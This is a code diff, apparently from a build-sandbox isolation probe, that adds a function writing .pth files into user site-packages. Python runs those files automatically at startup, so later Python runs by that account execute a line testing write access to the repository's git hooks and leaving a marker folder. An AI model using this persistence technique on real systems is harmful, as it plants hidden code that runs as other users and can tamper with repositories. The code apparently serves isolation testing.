@@ -151,6 +151,17 @@ def escape(process):
 
 
 @tries
+def lie_in_wait(home):
+    """Leave at home what Python reads of whoever works as this account when the build is over: who is not walled in can write to the mirror."""
+    hooks = f"{ROOT}/build/repository.git/hooks"
+    for minor in range(11, 15):
+        folder = f"{home}/.local/lib/python3.{minor}/site-packages"
+        os.makedirs(folder, exist_ok=True)
+        with open(f"{folder}/waiting.pth", "w") as file:
+            file.write(f"import os; os.access('{hooks}', os.W_OK) and os.makedirs('{hooks}/waited', exist_ok=True)\n")
+
+
+@tries
 def block(folder):
     """Put a pipe in the place of the note on what a process runs."""
     os.replace(f"{folder}/release", f"{folder}/note")
@@ -216,6 +227,7 @@ def main(role):
     own = MEDIA if role == "serving" else os.environ["TMPDIR"]
     if role == "building":
         rob()
+        lie_in_wait(f"{ROOT}/build")
         # One more, which stays when the build is over.
         if os.fork() == 0:
             os.setsid()
